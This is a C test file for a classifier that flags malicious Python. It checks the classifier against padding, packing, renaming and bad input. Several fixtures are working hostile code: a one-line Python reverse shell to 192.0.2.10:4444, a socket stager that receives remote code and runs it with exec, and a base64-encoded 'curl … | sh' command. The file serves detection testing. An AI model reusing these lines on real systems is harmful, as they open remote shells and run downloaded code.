// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * test_verdict.c - the whole judge with the committed bundle: golden files,
 * properties that must hold for any program, and bad input.
 */
#include <math.h>

#include "../test.h"

#include "judging.h"

static struct mpy_bundle *bundle;

struct kinds {
	char list[256];
	uint8_t last[65536];
	size_t last_size;
	unsigned int count;
};

static int note_kind(void *context, const struct mpy_layer *layer)
{
	struct kinds *k = context;

	snprintf(k->list + strlen(k->list), sizeof(k->list) - strlen(k->list),
		 "%s%s", k->count ? "," : "", layer->kind);
	if (layer->size <= sizeof(k->last)) {
		memcpy(k->last, layer->data, layer->size);
		k->last_size = layer->size;
	}
	k->count++;
	return 0;
}

/* tests/golden/judge/verdicts.tsv: file, label, kinds of layers or - */
static void test_golden(void)
{
	size_t size, length;
	char *table = slurp(GOLDEN "verdicts.tsv", &size), *line, *save;
	unsigned int n = 0;

	for (line = strtok_r(table, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save)) {
		char name[64], label[16], layers[128], path[128];
		static struct kinds kinds;
		struct mpy_layer_sink sink = { note_kind, &kinds };
		struct mpy_verdict *v;
		char *data;

		if (line[0] == '#' ||
		    sscanf(line, "%63s %15s %127s", name, label, layers) != 3)
			continue;
		snprintf(path, sizeof(path), GOLDEN "%s", name);
		data = slurp(path, &length);
		memset(&kinds, 0, sizeof(kinds));
		CHECK(mpy_judge(bundle, (uint8_t *)data, length, &sink, &v) ==
		      0);
		if (strcmp(mpy_label_name(v->label), label))
			printf("# %s: %s, p %.4f\n", name,
			       mpy_label_name(v->label), v->probability);
		CHECK_STR(mpy_label_name(v->label), label);
		CHECK_STR(kinds.count ? kinds.list : "-", layers);
		CHECK(v->n_layers == kinds.count);
		mpy_verdict_free(v);
		free(data);
		n++;
	}
	free(table);
	CHECK(n >= 10);
}

/* Ordinary one-liners, none of which the model was trained on. */
static void test_one_liners(void)
{
	size_t size;
	char *text = slurp(GOLDEN "one-liners.txt", &size), *line, *save;
	unsigned int n = 0;

	for (line = strtok_r(text, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save), n++) {
		struct mpy_verdict *v = judge(bundle, line, strlen(line));

		if (v->label == MPY_MALICIOUS)
			printf("# p %.4f: %s\n", v->probability, line);
		CHECK(v->label != MPY_MALICIOUS);
		mpy_verdict_free(v);
	}
	free(text);
	CHECK(n > 30);
}

/* What is put behind or before a text does not turn it into a binary. */
static void test_disguises(void)
{
	static const char zip_end[] = "#PK\5\6";
	size_t size;
	char *text = slurp(GOLDEN "reverse-shell.py", &size), bytes[4096] = "";
	struct mpy_verdict *v;

	CHECK(size + 400 < sizeof(bytes));
	memcpy(bytes, text, size);
	memcpy(bytes + size, zip_end, sizeof(zip_end) - 1);
	v = judge(bundle, bytes, size + sizeof(zip_end) - 1 + 18);
	CHECK(v->label == MPY_MALICIOUS);
	mpy_verdict_free(v);

	memset(bytes, 0, sizeof(bytes));
	memcpy(bytes, text, size);
	v = judge(bundle, bytes, size + 400);
	CHECK(v->label == MPY_MALICIOUS);
	mpy_verdict_free(v);

	memset(bytes, 0, sizeof(bytes));
	memcpy(bytes + 400, text, size);
	v = judge(bundle, bytes, size + 400);
	CHECK(v->label == MPY_MALICIOUS);
	mpy_verdict_free(v);
	free(text);
}

/* A decoded layer is judged as if it had come alone. */
static void test_layer_alone(void)
{
	static struct kinds kinds;
	struct mpy_layer_sink sink = { note_kind, &kinds };
	struct mpy_verdict *whole, *alone;
	size_t size;
	char *data = slurp(GOLDEN "packed-shell.py", &size);

	memset(&kinds, 0, sizeof(kinds));
	CHECK(mpy_judge(bundle, (uint8_t *)data, size, &sink, &whole) == 0);
	alone = judge(bundle, kinds.last, kinds.last_size);
	CHECK(whole->decider == whole->n_layers);
	CHECK(whole->raw == alone->raw);
	CHECK(whole->probability == alone->probability);
	mpy_verdict_free(whole);
	mpy_verdict_free(alone);
	free(data);
}

/* What is not asked for is left out, and changes nothing else. */
static void test_detail(void)
{
	static const char *const files[] = { GOLDEN "packed-shell.py",
					     GOLDEN "count-words.py" };
	struct mpy_judge_room *room = mpy_judge_room_new();

	for (size_t i = 0; i < 2; i++) {
		bool found = !i;
		struct mpy_verdict *v[3];
		size_t size;
		char *data = slurp(files[i], &size);

		for (unsigned int d = 0; d < 3; d++) {
			CHECK(!mpy_judge_in(room, bundle, d, (uint8_t *)data,
					    size, NULL, &v[d]));
			CHECK((v[d]->label != MPY_HARMLESS) == found);
			CHECK(v[d]->raw == v[0]->raw);
			CHECK(v[d]->decider == v[0]->decider);
		}
		CHECK(v[MPY_DETAIL_ALL]->n_reasons > 2);
		CHECK((v[MPY_DETAIL_FOUND]->n_reasons > 2) == found);
		CHECK(v[MPY_DETAIL_FOUND]->n_indicators ==
		      v[MPY_DETAIL_ALL]->n_indicators);
		CHECK(!v[MPY_DETAIL_VERDICT]->n_reasons);
		CHECK(!v[MPY_DETAIL_VERDICT]->n_indicators);
		for (unsigned int d = 0; d < 3; d++)
			mpy_verdict_free(v[d]);
		free(data);
	}
	mpy_judge_room_free(room);
}

/* More indicators than are listed: what a loader carries was judged still. */
static void test_many_indicators(void)
{
	struct mpy_judge_room *room = mpy_judge_room_new();
	struct mpy_verdict *all, *alone;
	size_t size;
	char *data = slurp(GOLDEN "packed-links.py", &size);

	CHECK(!mpy_judge_in(room, bundle, MPY_DETAIL_ALL, (uint8_t *)data,
			    size, NULL, &all));
	CHECK(!mpy_judge_in(room, bundle, MPY_DETAIL_VERDICT, (uint8_t *)data,
			    size, NULL, &alone));
	CHECK(all->bounds & MPY_BOUND_INDICATORS);
	CHECK(all->label == alone->label && all->label != MPY_MALICIOUS);
	CHECK(all->raw == alone->raw);
	mpy_verdict_free(all);
	mpy_verdict_free(alone);
	mpy_judge_room_free(room);
	free(data);
}

/* A comment that is no coding cookie never changes the verdict. */
static void test_comments(void)
{
	size_t size;
	char *data = slurp(GOLDEN "reverse-shell.py", &size);
	char *more = malloc(size + 100);
	struct mpy_verdict *one, *two;
	int n = sprintf(more, "# just a harmless little comment\n\n");

	memcpy(more + n, data, size);
	one = judge(bundle, data, size);
	two = judge(bundle, more, size + (size_t)n);
	CHECK(one->label == two->label);
	CHECK(fabs(one->raw - two->raw) < 0.2);
	mpy_verdict_free(one);
	mpy_verdict_free(two);
	free(more);
	free(data);
}

/* Renaming locals hardly changes the score. */
static void test_renaming(void)
{
	static const char a[] =
		"import json\nimport sys\n\n\ndef main(arguments):\n"
		"    settings = json.load(open(arguments[1]))\n"
		"    for entry in settings:\n        print(entry)\n\n\n"
		"main(sys.argv)\n";
	static const char b[] =
		"import json\nimport sys\n\n\ndef main(xzqvparam):\n"
		"    xzqvstat = json.load(open(xzqvparam[1]))\n"
		"    for xzqve in xzqvstat:\n        print(xzqve)\n\n\n"
		"main(sys.argv)\n";
	struct mpy_verdict *one = judge(bundle, a, sizeof(a) - 1);
	struct mpy_verdict *two = judge(bundle, b, sizeof(b) - 1);

	CHECK(one->label == MPY_HARMLESS && two->label == MPY_HARMLESS);
	CHECK(fabs(one->raw - two->raw) < 1.0);
	mpy_verdict_free(one);
	mpy_verdict_free(two);
}

/* What is packed decides, not that it is packed, however often. */
static void test_packed_harmless(void)
{
	static const char text[] =
		"import base64 as b\n"
		"exec(b.b64decode('"
		"aW1wb3J0IGJhc2U2NCBhcyBiCmV4ZWMoYi5iNjRkZWNvZGUoJ2FXMXdiM0owSU"
		"dKaGMyVTJOQ0JoY3lCaUNtVjRaV01vWWk1aU5qUmtaV052WkdVb0oyTklTbkJp"
		"YmxGdldETk9NV0pUWjNsTVEwRjVTMU5yUFNjcEtRPT0nKSk="
		"'))\n";
	struct mpy_verdict *v = judge(bundle, text, sizeof(text) - 1);

	if (v->label == MPY_MALICIOUS)
		printf("# packed: p %.4f raw %.4f\n", v->probability, v->raw);
	CHECK(v->label != MPY_MALICIOUS);
	CHECK(v->n_layers == 3);
	mpy_verdict_free(v);
}

/* Nor among much other code, where its lines are judged by themselves. */
static void test_packed_among_others(void)
{
	static const char *const packed[] = {
		/* prints what a file of JSON has */
		"exec(b.b64decode('aW1wb3J0IGpzb24KZm9yIHJvdyBpbiBqc29uLmxvYWQob3Blbigncm93cy5q"
		"c29uJykpOgogICAgcHJpbnQocm93WyduYW1lJ10sIHJvd1snc2l6ZSddKQo='))\n",
		/* os.system('curl http://192.0.2.4/x | sh') */
		"exec(b.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8v"
		"MTkyLjAuMi40L3ggfCBzaCcp'))\n"
	};
	size_t calm_size;
	char *calm = slurp(GOLDEN "web-server.py", &calm_size);
	char *text = malloc(3 * calm_size + 1000);

	for (unsigned int i = 0; i < 2; i++) {
		int n = sprintf(text, "%s%simport base64 as b\n%s%s", calm,
				calm, packed[i], calm);
		struct mpy_verdict *v = judge(bundle, text, (size_t)n);

		if ((v->label == MPY_MALICIOUS) != i)
			printf("# %u: p %.4f\n", i, v->probability);
		CHECK((v->label == MPY_MALICIOUS) == i);
		mpy_verdict_free(v);
	}
	free(text);
	free(calm);
}

/* A loader's list of numbers may be long: its lines are no payload. */
static void test_numbers_harmless(void)
{
	static const char line[] = "print(sum(range(10)))  # of a report\n";
	size_t size = 0, i, room = 1 << 20;
	char *text = malloc(room);
	struct mpy_verdict *v;

	size = (size_t)sprintf(text, "_k = 77\n_d = [");
	for (i = 0; i < 400 * (sizeof(line) - 1); i++)
		size += (size_t)snprintf(text + size, room - size, "%d, ",
					 line[i % (sizeof(line) - 1)] ^ 77);
	size += (size_t)snprintf(text + size, room - size,
				 "]\n_f = lambda s: ''.join(chr(c ^ _k) "
				 "for c in s)\nexec(_f(_d))\n");
	v = judge(bundle, text, size);
	CHECK(v->label != MPY_MALICIOUS);
	CHECK(v->n_layers == 1);
	mpy_verdict_free(v);
	free(text);
}

/*
 * One short line far within a long text, which has its own weight in no
 * window: judged by itself too, with its own line number.
 */
static void test_short_in_long(void)
{
	static const char line[] =
		"import os,pty,socket;s=socket.socket();"
		"s.connect(('192.0.2.10',4444));"
		"[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')\n";
	size_t room = 400000, size = 0;
	char *text = malloc(room);
	struct mpy_verdict *v;
	unsigned int i;

	for (i = 0; size < 300000; i++) {
		int n = snprintf(text + size, room - size,
				 "def row_%u(table, width=%u):\n"
				 "    return [x.strip() for x in table[width]]\n",
				 i, i * 7 % 90);

		size += (size_t)n;
		if (i == 1500) {
			memcpy(text + size, line, sizeof(line) - 1);
			size += sizeof(line) - 1;
		}
	}
	v = judge(bundle, text, size);
	CHECK(v->label == MPY_MALICIOUS || v->label == MPY_SUSPICIOUS);
	for (i = 0; i < v->n_reasons && !v->reasons[i].line; i++)
		;
	CHECK(i < v->n_reasons && v->reasons[i].line == 3003);
	mpy_verdict_free(v);
	free(text);
}

/* Harmless padding does not hide a payload. */
static void test_padding(void)
{
	size_t evil_size, calm_size, n = 0;
	char *evil = slurp(GOLDEN "reverse-shell.py", &evil_size);
	char *calm = slurp(GOLDEN "web-server.py", &calm_size);
	char *text = malloc(300000);
	struct mpy_verdict *v;

	while (n + calm_size < 100000) {
		memcpy(text + n, calm, calm_size);
		n += calm_size;
	}
	memcpy(text + n, evil, evil_size);
	n += evil_size;
	while (n + calm_size < 200000) {
		memcpy(text + n, calm, calm_size);
		n += calm_size;
	}
	v = judge(bundle, text, n);
	if (v->label != MPY_MALICIOUS)
		printf("# padded: p %.4f raw %.4f\n", v->probability, v->raw);
	CHECK(v->label == MPY_MALICIOUS);
	mpy_verdict_free(v);
	free(evil);
	free(calm);
	free(text);
}

/* Nor does code as people write it, wherever the payload stands in it. */
static void test_real_code(void)
{
	static const char *const paths[] = { "scripts/vm.d/machine.py",
					     "scripts/vm.d/snapshot.py",
					     "scripts/vm.d/image.py",
					     "scripts/vm.d/mirror.py",
					     "scripts/vm.d/main.py" };
	static const char evil[] =
		"import socket, struct\ns = socket.socket(2, 1)\n"
		"s.connect(('198.51.100.31', 4444))\n"
		"l = struct.unpack('>I', s.recv(4))[0]\nd = s.recv(l)\n"
		"while len(d) < l: d += s.recv(l - len(d))\n"
		"exec(d, {'s': s})\n";
	enum { FILES = sizeof(paths) / sizeof(*paths), NOWHERE = FILES + 1 };
	const size_t evil_size = sizeof(evil) - 1;
	size_t size, n;
	char *text = malloc(300000), *code;
	struct mpy_verdict *v;

	for (size_t where = 0; where <= NOWHERE; where++) {
		n = 0;
		for (size_t i = 0; i <= FILES; i++) {
			if (i == where) {
				memcpy(text + n, evil, evil_size);
				n += evil_size;
			}
			if (i == FILES)
				break;
			code = slurp(paths[i], &size);
			CHECK(n + size + evil_size < 300000);
			memcpy(text + n, code, size);
			n += size;
			free(code);
		}
		v = judge(bundle, text, n);
		CHECK(v->label == (where == NOWHERE ? MPY_HARMLESS
						    : MPY_MALICIOUS));
		mpy_verdict_free(v);
	}
	free(text);
}

/* Bytes of all kinds give a verdict, or say why not. */
static void test_bad_input(void)
{
	static const char elf[] = "\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0>\0";
	static const char nul[64];
	struct mpy_verdict *v;

	v = judge(bundle, "", 0);
	CHECK(v->label == MPY_HARMLESS);
	mpy_verdict_free(v);
	v = judge(bundle, elf, sizeof(elf) - 1);
	CHECK(v->label == MPY_UNREADABLE && v->unreadable);
	mpy_verdict_free(v);
	v = judge(bundle, nul, sizeof(nul));
	CHECK(v->label == MPY_UNREADABLE);
	mpy_verdict_free(v);
	v = judge(bundle, "\xff\xfe\xfd\xed\xa0\x80 = 1\n", 11);
	CHECK(v->label != MPY_MALICIOUS);
	mpy_verdict_free(v);
	v = judge(bundle, "#!/bin/sh\nset -e\necho \"$1\" | sed s/a/b/\n", 39);
	CHECK(v->label == MPY_HARMLESS);
	mpy_verdict_free(v);
}

/* Large and hostile: ends, within its bounds. */
static void test_bounds(void)
{
	size_t size = 24u << 20, i;
	char *text = malloc(size);
	struct mpy_verdict *v;

	memset(text, '(', size);
	v = judge(bundle, text, size);
	CHECK(v->bounds & MPY_BOUND_TEXT);
	mpy_verdict_free(v);
	memset(text, 'a', size);
	v = judge(bundle, text, size); /* one line, one name */
	CHECK(v->label != MPY_MALICIOUS);
	mpy_verdict_free(v);
	for (i = 0; i < 10000; i++)
		text[i] = i < 5000 ? '[' : ']';
	v = judge(bundle, text, 10000);
	CHECK(v->label != MPY_MALICIOUS);
	mpy_verdict_free(v);
	free(text);
}

static int refuse(void *context, const struct mpy_layer *layer)
{
	(void)context;
	(void)layer;
	return -77;
}

static void test_sink_ends_it(void)
{
	struct mpy_layer_sink sink = { refuse, NULL };
	struct mpy_verdict *v = NULL;
	size_t size;
	char *data = slurp(GOLDEN "packed-shell.py", &size);

	CHECK(mpy_judge(bundle, (uint8_t *)data, size, &sink, &v) == -77);
	CHECK(v == NULL);
	free(data);
}

static void test_names(void)
{
	CHECK_STR(mpy_label_name(MPY_UNREADABLE), "unreadable");
	CHECK_STR(mpy_indicator_name(MPY_IND_WEBHOOK), "webhook");
	mpy_verdict_free(NULL);
}

int main(void)
{
	bundle = default_bundle();
	RUN(test_golden);
	RUN(test_one_liners);
	RUN(test_disguises);
	RUN(test_layer_alone);
	RUN(test_detail);
	RUN(test_many_indicators);
	RUN(test_comments);
	RUN(test_renaming);
	RUN(test_padding);
	RUN(test_real_code);
	RUN(test_short_in_long);
	RUN(test_packed_harmless);
	RUN(test_packed_among_others);
	RUN(test_numbers_harmless);
	RUN(test_bad_input);
	RUN(test_bounds);
	RUN(test_sink_ends_it);
	RUN(test_names);
	mpy_bundle_free(bundle);
	return DONE();
}
